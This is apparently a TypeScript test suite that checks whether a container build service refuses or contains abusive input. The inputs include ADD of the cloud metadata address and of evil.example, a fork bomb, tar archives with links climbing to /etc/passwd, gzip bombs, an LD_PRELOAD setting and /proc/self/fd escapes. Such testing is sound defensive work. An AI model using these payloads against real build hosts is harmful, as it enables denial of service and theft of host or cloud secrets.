import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { rmSync, writeFileSync } from "node:fs";
import { after, before } from "node:test";
import { gzipSync } from "node:zlib";
import type { Build, BuildFailure, Hafen } from "@hafen/sdk";
import Docker from "dockerode";
import { ask } from "../api/ask.ts";
import { tarOf } from "../api/tar.ts";
import { abuse, eventually, requireEnv, startWorld, type World } from "../support/index.ts";

const MIB = 1024 * 1024;
const WAIT = { waitSeconds: 120 };
const canary = `/etc/hafen-canary-${randomBytes(6).toString("hex")}`;
let world: World;
let user: Hafen & { apiKey: string };
let other: Hafen & { apiKey: string };
let docker: Docker;
before(async () => {
  world = await startWorld({
    env: { HAFEN_CONTEXT_BYTES: String(4 * MIB), HAFEN_CONTEXT_ENTRIES: "2000", HAFEN_IMAGE_BYTES: String(16 * MIB) },
  });
  [user, other] = [await world.user("attacker"), await world.user("victim")];
  docker = new Docker({ socketPath: requireEnv("HAFEN_TEST_ENGINE").replace("unix://", "") });
  writeFileSync(canary, "the host's");
});
after(async () => {
  rmSync(canary);
  await world[Symbol.asyncDispose]();
});

const from = (text: string) => `FROM busybox\n${text}\n`;
const build = (text: string, tag?: string, client: Hafen = user): Promise<Build> =>
  client.builds.createFromFiles({ dockerfile: from(text) }, { ...(tag !== undefined && { tag }), ...WAIT });
async function built(text: string, tag: string, client: Hafen = user): Promise<Build> {
  const made = await build(text, tag, client);
  assert.equal(made.state, "succeeded", JSON.stringify(made.failure));
  return made;
}
type Upload = { code?: string; state?: string; failure?: BuildFailure | null };
const upload = (tar: Uint8Array | string, path = "/v1/builds") =>
  ask<Upload>(world.url, "POST", path, {
    key: user.apiKey,
    body: tar as BodyInit,
    headers: { "content-type": "application/x-tar", prefer: "wait=120" },
  });
/** Refused at the upload, or failed by it: with which code, and whether a build was made. */
async function outcome(tar: Uint8Array | string, path?: string): Promise<string> {
  const { status, body, text } = await upload(tar, path);
  assert.ok(status < 500, text);
  return body.code ?? body.failure?.code ?? body.state ?? "";
}
const log = async (id: string) =>
  (await Array.fromAsync(user.builds.logs(id, { follow: false }))).map(({ text }) => text).join("\n");

abuse("G1", "ADD of a URL: written, by ARG, by ENV, by ONBUILD, in a later stage", async () => {
  const url = "http://169.254.169.254/latest/meta-data";
  const forms = [
    `ADD ${url} /x`,
    `ARG U=${url}\nADD $U /x`,
    `ENV U=${url}\nADD \${U} /x`,
    `ONBUILD ADD ${url} /x`,
    `FROM busybox\nADD ${url} /x`,
    `ADD git@evil.example:a/b.git /x`,
    `ARG S=http\nADD \${S}://169.254.169.254/x /x`,
  ];
  for (const form of forms)
    assert.equal(await outcome(await tarOf({ Dockerfile: from(form) })), "remote_add_refused", form);
  return `${forms.length} of ${forms.length} refused before anything is fetched`;
});

abuse("G2", "FROM and COPY --from of another user's image, of its id, of an address", async () => {
  await built("RUN echo theirs > /secret", "private", other);
  const { digest, id } = await other.images.get("private");
  const own = ["private", digest, digest.slice(7), id];
  const bases = [...own, "10.0.0.1:5000/x", "169.254.169.254/x:latest", "localhost:5000/x"];
  const codes = new Set<string>();
  for (const base of bases) {
    for (const dockerfile of [`FROM ${base}\n`, `FROM busybox\nCOPY --from=${base} /secret /s\n`]) {
      const code = await outcome(await tarOf({ Dockerfile: dockerfile }));
      assert.match(code, /^(base_not_found|dockerfile_invalid|registry_not_allowed)$/, dockerfile);
      codes.add(code);
    }
  }
  return `${2 * bases.length} builds end with ${[...codes].join(", ")}`;
});

abuse("G3", "a fork bomb and an endless sleep in a RUN, cancelled", async () => {
  const steps = ["b() { b | b & b; }; echo begun; b & sleep 1000", "echo begun; trap '' TERM; sleep infinity"];
  const begun: Build[] = [];
  let beside = "";
  for (const step of steps) {
    const made = await user.builds.createFromFiles({ dockerfile: from(`RUN ${step}`) });
    begun.push(made);
    const runs = async () => /^begun$/m.test(await log(made.id)) || (await user.builds.get(made.id)).state === "failed";
    await eventually("its step runs", runs);
    beside = (await built("RUN echo beside", "beside", other)).state;
    await user.builds
      .cancel(made.id, WAIT)
      .catch((error: { code: string }) => assert.equal(error.code, "build_wrong_state"));
    assert.match((await user.builds.get(made.id)).state, /^(cancelled|failed)$/);
  }
  const ids = new Set(begun.map(({ id }) => id));
  const left = await docker.listContainers({ all: true });
  for (const { Id } of left) {
    const found = await docker
      .getContainer(Id)
      .inspect()
      .catch(() => undefined); // another test's, gone meanwhile
    assert.ok(![...ids].some((id) => found?.HostConfig.CgroupParent?.includes(id)), "a container is left");
  }
  return `another user's build ${beside} beside them; cancelled, no container of theirs is left`;
});

abuse(
  "G4",
  "a context with devices, FIFOs, links out, climbing, doubled and sparse entries, set-uid bits",
  async () => {
    const good = { Dockerfile: from("COPY . /c") };
    const refused: Record<string, Parameters<typeof tarOf>[0]> = {
      "a character device": { ...good, null: { type: "character-device", devmajor: 1, devminor: 3 } },
      "a FIFO": { ...good, pipe: { type: "fifo" } },
      "a FIFO for a Dockerfile": { Dockerfile: { type: "fifo" } },
      "a link for a Dockerfile": { Dockerfile: { type: "symlink", linkname: "/etc/passwd" } },
      "an absolute link": { ...good, l: { type: "symlink", linkname: canary } },
      "a link that climbs": { ...good, l: { type: "symlink", linkname: "../../../etc" } },
      "a hard link out": { ...good, l: { type: "link", linkname: `../..${canary}` } },
      "a child of a link": { ...good, d: { type: "symlink", linkname: "." }, "d/x": "x" },
      "an absolute path": { ...good, [canary]: "x" },
      "a path that climbs": { ...good, "a/../../../x": "x" },
      "200 directories of 200 letters": {
        ...good,
        [Array.from({ length: 200 }, () => "x".repeat(200)).join("/")]: "x",
      },
    };
    const codes = new Set<string>();
    for (const [what, entries] of Object.entries(refused)) {
      const code = await outcome(await tarOf(entries));
      assert.match(code, /^(context_entry_refused|context_invalid|dockerfile_invalid|dockerfile_missing)$/, what);
      codes.add(code);
    }
    const twins = await tarOf({ ...good, A: "upper", a: "lower", suid: { body: "x", mode: 0o6755, uid: 4242 } });
    const { body } = await upload(twins, "/v1/builds?tag=twins");
    assert.equal(body.state, "succeeded", JSON.stringify(body.failure));
    const container = await user.containers.create(
      { image: "twins", command: ["sh", "-c", "cat /c/A /c/a; stat -c ' %a %u' /c/suid"] },
      WAIT,
    );
    await user.containers.wait(container.id);
    const lines = await Array.fromAsync(user.containers.logs(container.id));
    assert.deepEqual(lines.map(({ text }) => text).join(""), "upperlower 755 0");
    return `${Object.keys(refused).length} contexts refused (${[...codes].join(", ")}); twins stay two, set-uid bits and owners go`;
  },
);

abuse("G5", "contexts that grow, are cut, are many, or are compressed by what nobody asked for", async () => {
  const zeros = Buffer.alloc(8 * MIB);
  const many = Object.fromEntries(Array.from({ length: 3000 }, (_, at) => [`f${at}`, ""]));
  const whole = await tarOf({ Dockerfile: from("COPY . /c"), f: "x".repeat(20_000) });
  const said = {
    "gzip bomb": await outcome(gzipSync(await tarOf({ Dockerfile: from(""), zeros }))),
    "3,000 files": await outcome(await tarOf({ Dockerfile: from(""), ...many })),
    cut: await outcome(whole.subarray(0, 10_000)),
    "cut gzip": await outcome(gzipSync(whole).subarray(0, 100)),
    bzip2: await outcome(Buffer.from("BZh91AY&SY".repeat(100))),
    "ADD of an archive with a hole of 8 GiB": await outcome(
      await tarOf({ Dockerfile: from("ADD a.tgz /a/"), "a.tgz": gzipSync(withHole()) }),
    ),
    xz: await outcome(Buffer.concat([Buffer.from("fd377a585a00", "hex"), Buffer.alloc(1000)])),
  };
  assert.deepEqual(said, {
    "gzip bomb": "context_too_large",
    "3,000 files": "context_too_large",
    cut: "context_truncated",
    "cut gzip": "context_truncated",
    bzip2: "context_invalid",
    "ADD of an archive with a hole of 8 GiB": "build_failed",
    xz: "context_invalid",
  });
  return Object.entries(said)
    .map(([what, code]) => `${what}: ${code}`)
    .join(", ");
});

/** A tar whose one file is said to be 8 GiB, all of it a hole, as GNU's tar writes it. */
function withHole(): Buffer {
  const header = Buffer.alloc(512);
  const octal = (value: number, digits: number) => value.toString(8).padStart(digits, "0");
  header.write("hole", 0);
  for (const at of [100, 108, 116]) header.write(octal(0o644, 7), at);
  header.write(octal(0, 11), 124);
  header.write(octal(0, 11), 136);
  header.write("        S", 148);
  header.write("ustar  ", 257);
  header.write(octal(8 * 1024 ** 3 - 1, 11), 483);
  header.write(
    `${octal(
      header.reduce((sum, byte) => sum + byte, 0),
      6,
    )}\0 `,
    148,
  );
  return Buffer.concat([header, Buffer.alloc(1024)]);
}

abuse(
  "G6",
  "Dockerfiles of one endless line, of 2,000 steps, of no UTF-8, with here-documents and odd escapes",
  async () => {
    const said = {
      "3 MB line": await outcome(await tarOf({ Dockerfile: from(`RUN ${"x".repeat(3 * MIB)}`) })),
      "2,000 steps": await outcome(await tarOf({ Dockerfile: from("ENV A=1\n".repeat(2000)) })),
      "no UTF-8": await outcome(
        await tarOf({ Dockerfile: Buffer.concat([Buffer.from(from("")), Buffer.from([0xff, 0xfe])]) }),
      ),
      "here-document": await outcome(await tarOf({ Dockerfile: from("RUN <<EOF\nid\nEOF") })),
      "escape of another sort": await outcome(await tarOf({ Dockerfile: `# escape=x\n${from("RUN echo 1")}` })),
      "syntax of another": await outcome(await tarOf({ Dockerfile: `# syntax=evil.example/x\n${from("ENV A=1")}` })),
      "byte order mark": await outcome(await tarOf({ Dockerfile: `\ufeff${from("ENV A=1")}` })),
    };
    const { "syntax of another": syntax, "byte order mark": mark, ...refused } = said;
    assert.deepEqual([syntax, mark], ["succeeded", "succeeded"]);
    assert.deepEqual([...new Set(Object.values(refused))], ["dockerfile_invalid"], JSON.stringify(said));
    return `${Object.keys(refused).length} refused with dockerfile_invalid; # syntax= is dropped, a byte order mark is none`;
  },
);

abuse(
  "G7",
  "what an image declares: 100 volumes, a health check without pause, a stop signal that stops nothing, 5,000 labels, a preload",
  async () => {
    const volumes = await built(
      Array.from({ length: 100 }, (_, at) => `VOLUME /v${at}`)
        .slice(0, 1)
        .join("\n")
        .replace("/v0", JSON.stringify(Array.from({ length: 100 }, (_, at) => `/v${at}`))),
      "hundred",
    );
    const tooMany = await user.containers.create({ image: "hundred", command: ["true"] }).then(
      () => "made",
      (error: { code: string }) => error.code,
    );
    assert.equal(tooMany, "mount_invalid", volumes.id);
    assert.deepEqual((await user.volumes.list()).items, []);
    const declared = `HEALTHCHECK --interval=1ms --timeout=1ms CMD sleep 1000
STOPSIGNAL SIGCONT
USER 0
ENV LD_PRELOAD=/evil.so
SHELL ["/bin/sh", "-ec"]
CMD ["sleep", "1000"]`;
    await built(declared, "declared");
    const container = await user.containers.create({ image: "declared" }, WAIT);
    assert.equal(container.state, "running");
    const { Config } = await docker.getContainer(container.id).inspect();
    assert.ok((Config.Healthcheck?.Interval ?? 0) >= 1e9, "a check is at most once a second");
    await user.containers.stop(container.id, { graceSeconds: 1 }, WAIT);
    assert.equal((await user.containers.get(container.id)).state, "exited");
    const labels = Array.from({ length: 5_000 }, (_, at) => `l${at}=x`).join(" ");
    const labelled = await build(`LABEL ${labels}`, "labels");
    assert.match(labelled.state, /^(succeeded|failed)$/);
    return `100 volumes: ${tooMany}; the check is slowed, the stop kills after its grace; 5,000 labels: ${labelled.state}`;
  },
);

abuse(
  "G9",
  "another user's layers by their exact steps, and a layer made for others with a proxy of one's own",
  async () => {
    const mark = randomBytes(8).toString("hex");
    const steps = `RUN echo ${mark} && head -c 16 /dev/urandom | md5sum > /secret\nRUN echo "\${http_proxy:-none}" > /proxy`;
    const made = await other.builds.createFromFiles({ dockerfile: from(steps) }, { tag: "theirs", ...WAIT });
    assert.equal(made.state, "succeeded");
    for (const buildArgs of [{}, { http_proxy: "http://evil.example" }]) {
      const guessed = await user.builds.createFromFiles({ dockerfile: from(steps) }, { buildArgs, ...WAIT });
      assert.equal(guessed.state, "succeeded");
      assert.ok(
        guessed.steps.slice(1).every(({ cached }) => !cached),
        "another user's layer is taken",
      );
    }
    const again = await other.builds.createFromFiles({ dockerfile: from(steps) }, { tag: "again", ...WAIT });
    assert.deepEqual(
      again.steps.slice(1).map(({ cached }) => cached),
      [true, true],
      "one's own are still found",
    );
    assert.equal((await other.images.get("again")).digest, (await other.images.get("theirs")).digest);
    return "no step of another user's is found in the cache, one's own all are";
  },
);

abuse("G10", "a log that says what the engine would", async () => {
  const { digest } = await world.admin.images.get("busybox");
  const lies = `RUN echo "Successfully built ${digest.slice(7, 19)}"; echo '{"aux":{"ID":"${digest}"}}'; echo ' ---> ${digest.slice(7, 19)}'; echo "Step 9/9 : FROM evil"; echo real > /real`;
  const made = await built(lies, "liar");
  const image = await user.images.get("liar");
  assert.notEqual(image.digest, digest);
  assert.equal(made.steps.length, 2);
  const { id } = await user.containers.create({ image: "liar", command: ["cat", "/real"] }, WAIT);
  await user.containers.wait(id);
  assert.equal((await Array.fromAsync(user.containers.logs(id)))[0]?.text, "real");
  return "the image is the one that was built, with the steps that were written";
});

abuse("G11", "a working directory in the runtime's own descriptors, at build, run and exec", async () => {
  const look = `cat ../../../../..${canary} ../../../..${canary} ..${canary} 2>/dev/null; true`;
  const ends: string[] = [];
  for (const at of [7, 8]) {
    const made = await build(`WORKDIR /proc/self/fd/${at}\nRUN ${look}`);
    assert.doesNotMatch(await log(made.id), /the host's/);
    const container = await user.containers.create(
      { image: "busybox", workingDir: `/proc/self/fd/${at}`, command: ["sh", "-c", look] },
      WAIT,
    );
    await user.containers.wait(container.id, { timeoutSeconds: 30 });
    const lines = container.state === "failed" ? [] : await Array.fromAsync(user.containers.logs(container.id));
    assert.ok(lines.every(({ text }) => !text.includes("the host's")));
    ends.push(`${made.state}/${container.state}`);
    await user.containers.remove(container.id, { force: true, ...WAIT });
  }
  const { id } = await user.containers.create({ image: "busybox", command: ["sleep", "1000"] }, WAIT);
  const execs = Array.from({ length: 28 }, async (_, at) => {
    const workingDir = `/proc/self/fd/${at + 3}`;
    const found = await user.containers
      .exec(id, { command: ["sh", "-c", look], workingDir })
      .catch((error: { code: string }) => ({ stdout: error.code }));
    assert.doesNotMatch(found.stdout, /the host's/, workingDir);
  });
  await Promise.all(execs);
  await user.containers.remove(id, { force: true, ...WAIT });
  return `builds and containers end ${[...new Set(ends)].join(", ")}, 28 execs see nothing of the host`;
});

abuse("G12", "images that say they are small, and layers whose entries lead out", async () => {
  const images = "/v1/images/import?tag=large";
  const said = {
    "20 MB rootfs": await outcome(await tarOf({ big: Buffer.alloc(20 * MIB) }), images),
    "gzip of it": await outcome(gzipSync(await tarOf({ big: Buffer.alloc(20 * MIB) })), images),
    "climbing entry": await outcome(await tarOf({ "../../etc/evil": "x" }), images),
    "hard link out": await outcome(await tarOf({ l: { type: "link", linkname: `../..${canary}` } }), images),
    "child of a link": await outcome(await tarOf({ d: { type: "symlink", linkname: "/etc" }, "d/evil": "x" }), images),
  };
  for (const [what, code] of Object.entries(said))
    assert.match(code, /^(context_too_large|archive_invalid|context_entry_refused|context_invalid)$/, what);
  assert.deepEqual(
    (await user.images.list()).items.filter(({ tags }) => tags.includes("large")),
    [],
  );
  return Object.entries(said)
    .map(([what, code]) => `${what}: ${code}`)
    .join(", ");
});
